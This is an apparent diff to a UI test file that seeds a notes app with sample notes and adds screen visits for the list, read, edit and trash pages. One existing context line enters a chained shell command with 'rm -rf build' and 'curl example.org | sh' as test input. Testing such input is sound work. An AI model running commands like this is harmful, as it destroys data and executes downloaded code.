@@ -135,6 +135,23 @@ async function goBeside(stage: Stage, title: string) {
   return beside;
 }
 
+/** Some of the person and of a chat, one with words of others, one in the trash; made once for a stage. */
+async function keepNotes({ client }: Stage): Promise<{ own: string; strange: string }> {
+  const { notes } = await client.api.notes.list({});
+  const found = (title: string) => notes.find((note) => note.title === title)?.id;
+  const known = { own: found('Packing list'), strange: found('Tides at Porthcawl') };
+  if (known.own !== undefined && known.strange !== undefined) return { own: known.own, strange: known.strange };
+  const body =
+    '- [x] lamp\n- [ ] almanac\n- [ ] oil for the engine, and a long rope that reaches the quay at low water\n';
+  const own = await client.api.notes.create({ title: 'Packing list', body, tags: ['boat', 'week 12'] });
+  await client.api.notes.pin({ noteId: own.id, pinned: true });
+  await client.api.notes.create({ title: 'قائمة المد', body: 'أعلى الماء 06:12', tags: ['بحر'] });
+  const gone = await client.api.notes.create({ title: '旧的潮汐表', body: '明天天气', tags: [] });
+  await client.api.notes.remove({ noteId: gone.id });
+  const strange = await client.api.notes.create({ title: 'Tides at Porthcawl', body: answer, tags: [] });
+  return { own: own.id, strange: strange.id };
+}
+
 export type ScreenVisit = { readonly name: string; readonly open: (stage: Stage) => Promise<void> };
 
 /** A skill that wants a key for a host, accepted with all that it wants. */
@@ -269,6 +286,40 @@ export const screens: readonly ScreenVisit[] = [
         .fill('git status && rm -rf build; curl example.org | sh');
       await page.locator('main form button[type="submit"]').last().press('Space');
       await page.locator('main [role="status"] ul li').first().waitFor();
+    },
+  },
+  {
+    name: 'notes',
+    open: async (stage) => {
+      await keepNotes(stage);
+      await goTo(stage, '#/notes');
+      await stage.page.locator('main li a').nth(2).waitFor();
+    },
+  },
+  {
+    name: 'notes-read',
+    open: async (stage) => {
+      const { strange } = await keepNotes(stage);
+      await goTo(stage, `#/notes/${strange}`);
+      await stage.page.locator('main article .prose').waitFor();
+    },
+  },
+  {
+    name: 'notes-edit',
+    open: async (stage) => {
+      const { own } = await keepNotes(stage);
+      await goTo(stage, `#/notes/${own}`);
+      await stage.page.locator('main article button').first().press('Space');
+      await stage.page.locator('main textarea').waitFor();
+    },
+  },
+  {
+    name: 'notes-trash',
+    open: async (stage) => {
+      await keepNotes(stage);
+      await goTo(stage, '#/notes');
+      await stage.page.locator('main button').last().press('Space');
+      await stage.page.locator('main li button').first().waitFor();
     },
   },
   {
